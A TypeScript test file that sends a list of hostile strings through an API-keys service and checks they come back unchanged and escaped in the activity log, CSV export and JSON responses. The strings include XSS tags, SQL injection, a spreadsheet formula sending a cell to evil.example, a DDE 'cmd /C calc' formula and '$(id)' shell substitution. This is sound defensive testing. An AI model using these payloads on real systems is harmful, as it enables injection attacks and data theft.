import { describe, expect, it } from 'vitest';
import { readCsv } from './csv-reader.ts';
import { mount } from './support.ts';

const TEXTS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE keys; --",
  '=HYPERLINK("https://evil.example?"&A1,"Open")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\u202egnp.exe\u202c \u2066x\u2069',
  'a\u0301\u0302\u0303\u{1f469}\u200d\u{1f4bb}',
  'W'.repeat(100),
  '{{7*7}} %s %n $(id) `id`',
  'https://evil.example/?a=b&c=d#e',
  '\\u0000 \\x00 %00 &#0;',
  '__proto__',
];

describe.each(TEXTS)('a name such as %j', (text) => {
  it('comes back as the text that it is, in keys, activity and exports', async () => {
    const { call } = await mount();
    const metadata = { [text]: [text, { [text]: text }] };
    const { status, json } = await call('POST', '/api/keys', {
      json: { name: text, environment: 'live', metadata, reason: text },
    });
    expect(status).toBe(201);
    expect(json.record).toMatchObject({ name: text });
    expect(JSON.stringify(json.record.metadata)).toBe(JSON.stringify(metadata));
    const { items } = (await call('GET', `/api/keys?text=${encodeURIComponent(text)}`)).json;
    expect(items).toEqual([json.record]);
    const { activity } = await call('GET', '/api/activity');
    expect(activity.items).toMatchObject([{ keyName: text, reason: text }]);
    const rows = readCsv((await call('GET', '/api/activity/export')).text);
    const cell = (/^[=@]/.test(text) ? `'${text}` : text).replace('; --', ";' --");
    expect([rows[1]?.[4], rows[1]?.[7]]).toEqual([cell, cell]);
    expect(rows).toHaveLength(2);
  });

  it('is answered as JSON that no browser takes for a page', async () => {
    const { call } = await mount();
    const { headers } = await call('POST', '/api/keys', {
      json: { name: text, environment: 'no' },
    });
    expect(headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(headers.get('x-content-type-options')).toBe('nosniff');
  });
});
